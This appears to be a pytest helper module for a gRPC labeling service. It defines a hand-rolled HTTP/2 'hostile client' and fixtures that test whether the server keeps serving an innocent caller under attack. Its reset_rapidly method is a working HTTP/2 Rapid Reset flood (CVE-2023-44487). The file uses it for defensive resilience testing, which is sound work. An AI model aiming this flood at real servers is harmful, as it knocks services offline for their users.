"""A server to attack, an innocent caller beside the attack, and a hostile client that speaks HTTP/2 by hand."""

import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import grpc
import psutil
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from clip_labeler.v1 import labeler_pb2 as pb
from clip_labeler.v1.labeler_pb2_grpc import LabelerServiceStub

WAIT_SECONDS = 20
MAX_REQUEST_BYTES = 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADER = 9  # bytes
METHOD = "/clip_labeler.v1.LabelerService/GetServerInfo"


class HostileClient:
    """One HTTP/2 connection. It keeps to the protocol where that keeps the connection open."""

    def __init__(self, address: str) -> None:
        host, port = address.split(":")
        self.goaway: int | None = None  # The error code with which the server said goodbye.
        self._socket = socket.create_connection((host, int(port)), timeout=WAIT_SECONDS)
        self._received = bytearray()
        self._next_stream = 1
        headers = {":method": "POST", ":scheme": "http", ":path": METHOD, ":authority": address, "te": "trailers"}
        headers["content-type"] = "application/grpc"
        # Never indexed, so that each call's headers are the same bytes.
        self._headers = Encoder().encode([NeverIndexedHeaderTuple(*header) for header in headers.items()])
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, content: bytes) -> None:
        """Sends it, and answers what the server has sent so far. Raises OSError when the server has hung up."""
        self._socket.sendall(content)
        self._socket.setblocking(False)
        try:
            while self._receive():
                pass
        except BlockingIOError:
            pass
        self._socket.settimeout(WAIT_SECONDS)

    def open_stream(self) -> tuple[int, bytes]:
        """The next stream's number, and the frame that opens it for a call."""
        number, self._next_stream = self._next_stream, self._next_stream + 2
        return number, HeadersFrame(number, self._headers, flags=["END_HEADERS"]).serialize()

    def wait_until_closed(self) -> None:
        try:
            while self._receive():
                pass
        except (ConnectionResetError, BrokenPipeError):
            pass

    def reset_rapidly(self, seconds: float) -> int:
        """Opens calls and cancels them at once (CVE-2023-44487) until the server hangs up; their number."""
        calls, until = 0, time.monotonic() + seconds
        while time.monotonic() < until:
            frames: list[bytes] = []
            for _ in range(100):
                number, opening = self.open_stream()
                frames += [opening, RstStreamFrame(number, error_code=8).serialize()]
            try:
                self.send(b"".join(frames))
            except OSError:
                break
            calls += 100
        return calls

    def close(self) -> None:
        self._socket.close()

    def _receive(self) -> bool:
        """Reads once and answers pings and settings; False when the server has hung up."""
        content = self._socket.recv(2**16)
        self._received += content
        while len(self._received) >= FRAME_HEADER:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self._received[:FRAME_HEADER])))
            if len(self._received) < FRAME_HEADER + length:
                break
            frame.parse_body(memoryview(bytes(self._received[FRAME_HEADER : FRAME_HEADER + length])))
            del self._received[: FRAME_HEADER + length]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self._socket.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self._socket.sendall(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
        return bool(content)


class Target:
    """The server that is attacked."""

    def __init__(self, labeler: Any) -> None:
        self.labeler = labeler
        self.address = labeler.address

    def connect(self) -> HostileClient:
        return HostileClient(self.address)

    def is_serving(self) -> bool:
        with grpc.insecure_channel(self.address) as channel:
            reply = health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=WAIT_SECONDS)
        return bool(reply.status == health_pb2.HealthCheckResponse.SERVING)

    def memory(self) -> int:
        """Resident bytes."""
        return int(psutil.Process(self.labeler.process.pid).memory_info().rss)

    @contextmanager
    def innocent_caller(self) -> Iterator[Counter[grpc.StatusCode]]:
        """Calls one after the other meanwhile, on a connection of its own; counts the answers by their code."""
        answers: Counter[grpc.StatusCode] = Counter()
        over = threading.Event()

        def call() -> None:
            with grpc.insecure_channel(self.address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
                method = LabelerServiceStub(channel).GetServerInfo
                while not over.is_set() or not answers:
                    answers[method.future(pb.GetServerInfoRequest(), timeout=WAIT_SECONDS).code()] += 1

        thread = threading.Thread(target=call)
        thread.start()
        try:
            yield answers
        finally:
            over.set()
            thread.join()


@pytest.fixture(scope="session")
def start_target(start_labeler: Any, tiny_clip: Any) -> Callable[..., Target]:
    def start(**options: Any) -> Target:
        flags = ("--max-request-bytes", str(MAX_REQUEST_BYTES))
        return Target(start_labeler(*tiny_clip.flags, *flags, **options))

    return start


@pytest.fixture(scope="session")
def target(start_target: Callable[..., Target]) -> Target:
    return start_target()
